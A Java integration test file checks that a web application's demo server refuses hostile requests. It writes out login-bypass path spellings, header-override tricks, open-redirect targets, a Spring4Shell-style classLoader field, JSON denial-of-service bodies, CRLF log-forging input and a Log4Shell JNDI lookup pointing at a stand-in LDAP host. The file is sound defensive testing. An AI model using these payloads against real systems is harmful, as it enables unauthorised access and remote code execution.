package org.scrubline.journey;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Requests made to go where they should not: round the log-in, into another's record, out to another site. */
class HostileRequestsIT {

    private static final ServerProcess SERVER = DemoServer.shared();
    private static final Pattern SHEET = Pattern.compile("href=\"(/sheets/[0-9a-f-]{36})\"");
    private static final Pattern SESSION = Pattern.compile("SCRUBLINE=([^;]+)");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/cohort/",
                "//cohort",
                "/./cohort",
                "/x/../cohort",
                "/x/..;/cohort",
                "/login/..;/cohort",
                "/cohort;jsessionid=0",
                "/login;/../cohort",
                "/COHORT",
                "/cohort.json",
                "/cohort%2f",
                "/%63ohort",
                "/%2563ohort",
                "/css/../cohort",
                "/css/..%2fcohort",
                "/css/%2e%2e/cohort",
                "/js/..;/cohort",
                "/error/../cohort",
                "/actuator/health/../../cohort",
                "/cohort%00",
                "/cohort%0d%0aX: y"
            })
    void noSpellingOfAPathGoesRoundTheLogIn(String path) {
        RawRequest.Answer answer = raw(path, Map.of());
        quiet(answer);
        assertThat(answer.status()).as(path).isIn(302, 400, 404);
        assertThat(answer.body()).doesNotContain("signed cases").doesNotContain("Delmarr");
    }

    @Test
    void aHeaderCannotNameAnotherPath() {
        for (String header :
                List.of("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix", "X-HTTP-Method-Override")) {
            RawRequest.Answer answer = raw("/login", Map.of(header, "/cohort"));
            quiet(answer);
            assertThat(answer.body()).as(header).doesNotContain("signed cases");
        }
    }

    @Test
    void aForeignHostNameComesBackInNoLinkAndNoRedirect() {
        RawRequest.Answer answer =
                raw("/cohort", Map.of("X-Forwarded-Host", "elsewhere.invalid", "Forwarded", "host=elsewhere.invalid"));
        assertThat(answer.headers() + answer.body()).doesNotContain("elsewhere.invalid");
    }

    @Test
    void theSessionGetsANewNameAtLogIn() {
        Visitor visitor = new Visitor(SERVER);
        HttpResponse<String> first = visitor.get("/login");
        HttpResponse<String> entered =
                visitor.post("/login", Map.of("username", "hallinor", "password", DemoServer.PASSWORD));
        assertThat(session(entered)).isNotEqualTo(session(first));
    }

    /** Its cookie would take the place of the one with which somebody is just logging in, in another tab. */
    @Test
    void whatIsRefusedForWantOfASessionOpensNone() {
        HttpResponse<String> refused = new Visitor(SERVER)
                .sendWithToken(
                        "POST",
                        "/sheets/" + UUID.randomUUID() + "/taps",
                        "application/json",
                        "of-a-session-that-is-over");
        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(refused.headers().allValues("set-cookie")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "//elsewhere.invalid",
                "/\\elsewhere.invalid",
                "https:elsewhere.invalid",
                "https://elsewhere.invalid"
            })
    void afterTheLogInNobodyIsSentToAnotherSite(String to) {
        Visitor visitor = new Visitor(SERVER);
        String sent = URLEncoder.encode(to, StandardCharsets.UTF_8);
        visitor.get("/login?continue=" + sent + "&redirect=" + sent + "&url=" + sent);
        HttpResponse<String> entered = visitor.post(
                "/login",
                Map.of("username", "hallinor", "password", DemoServer.PASSWORD, "continue", to, "redirect", to));
        assertThat(entered.headers().firstValue("location").orElseThrow()).doesNotContain("elsewhere");
    }

    @Test
    void fieldsNobodyAskedForChangeNothing() {
        Visitor scorer = Visitor.loggedIn(SERVER, "brannock");
        String sheet = first(SHEET, scorer.get("/to-score").body());
        String before = stripped(scorer.get(sheet).body());
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put(
                "version",
                first(
                        Pattern.compile("name=\"version\" value=\"(\\d+)\""),
                        scorer.get(sheet).body()));
        List.of(
                        "tenantId",
                        "scorerId",
                        "scorer.id",
                        "id",
                        "role",
                        "state",
                        "signedAt",
                        "score",
                        "class.module.classLoader.x")
                .forEach(name -> fields.put(name, "00000000-0000-4000-8000-000000000000"));
        HttpResponse<String> saved = scorer.post(sheet, fields);
        quiet(saved);
        assertThat(stripped(scorer.get(sheet).body())).isEqualTo(before);
    }

    @Test
    void jsonMadeToHurtIsRefusedAsUnreadable() {
        Visitor scorer = Visitor.loggedIn(SERVER, "brannock");
        String taps = first(SHEET, scorer.get("/to-score").body()) + "/taps";
        for (String body : List.of(
                "[".repeat(100_000),
                "{\"a\":".repeat(50_000),
                "{\"version\":" + "9".repeat(100_000) + "}",
                "{\"version\":1,\"version\":2}",
                "{\"tap\":\"\\ud800\"}",
                "{\"tap\":\"\\u0000\"}",
                "{",
                "null",
                "\u0000",
                "[]")) {
            HttpResponse<String> answer = scorer.send("POST", taps, "application/json", body);
            quiet(answer);
            assertThat(answer.statusCode()).isBetween(400, 499);
        }
    }

    @Test
    void nothingPersonalMayBeKeptByACacheOrShownInAFrame() {
        Visitor trainee = Visitor.loggedIn(SERVER, "hallinor");
        for (String path : List.of("/my-cases", "/feedback", "/progress", "/rubrics", "/seen.csv")) {
            HttpResponse<String> answer = trainee.get(path);
            assertThat(answer.headers().firstValue("cache-control").orElse(""))
                    .as(path)
                    .contains("no-store");
            assertThat(answer.headers().firstValue("x-frame-options")).contains("DENY");
            assertThat(answer.headers().firstValue("x-content-type-options")).contains("nosniff");
            assertThat(answer.headers().firstValue("content-security-policy").orElse(""))
                    .doesNotContain("unsafe-inline")
                    .doesNotContain("unsafe-eval");
        }
    }

    @Test
    void nothingTellsWhatTheServerIsMadeOf() {
        for (String path : List.of("/login", "/nowhere", "/css/nothing.css", "/actuator/health")) {
            HttpResponse<String> answer = new Visitor(SERVER).get(path);
            assertThat(answer.headers().map().keySet()).doesNotContain("server", "x-powered-by");
        }
    }

    @Test
    void aUserAgentMadeOfControlSignsLeavesNoLineOfItsOwnInTheLog() {
        String mark = "agent-" + System.nanoTime();
        quiet(raw("/login", Map.of("User-Agent", mark + " ${jndi:ldap://elsewhere.invalid/a} \u001b[31m")));
        quiet(raw("/nowhere/" + mark + "%0aINFO%20forged", Map.of()));
        assertThat(SERVER.log().lines().filter(line -> line.startsWith("INFO forged")))
                .isEmpty();
    }

    private static RawRequest.Answer raw(String path, Map<String, String> headers) {
        return RawRequest.get(URI.create(SERVER.address()), path, headers);
    }

    private static void quiet(RawRequest.Answer answer) {
        quiet(answer.status(), answer.body());
    }

    private static void quiet(HttpResponse<String> answer) {
        quiet(answer.statusCode(), answer.body());
    }

    /** No page of ours falls over, and none says what it is built with. */
    private static void quiet(int status, String body) {
        assertThat(status).isLessThan(500);
        assertThat(body)
                .doesNotContain("Exception")
                .doesNotContain("org.springframework")
                .doesNotContain("Tomcat")
                .doesNotContain("SQL");
    }

    private static String session(HttpResponse<String> answer) {
        return answer.headers().allValues("set-cookie").stream()
                .map(SESSION::matcher)
                .filter(Matcher::find)
                .map(matcher -> matcher.group(1))
                .findFirst()
                .orElseThrow();
    }

    private static String first(Pattern pattern, String page) {
        Matcher matcher = pattern.matcher(page);
        assertThat(matcher.find()).as("%s", pattern).isTrue();
        return matcher.group(1);
    }

    private static String stripped(String page) {
        return page.replaceAll("nonce=\"[^\"]*\"", "")
                .replaceAll("name=\"csrf-token\" content=\"[^\"]*\"", "")
                .replaceAll("name=\"_csrf\" value=\"[^\"]*\"", "")
                .replaceAll("name=\"version\" value=\"\\d+\"", "")
                .replaceAll("data-version=\"\\d+\"", "")
                .replaceAll("(?s)<div class=\"flash.*?</div>", "");
    }
}
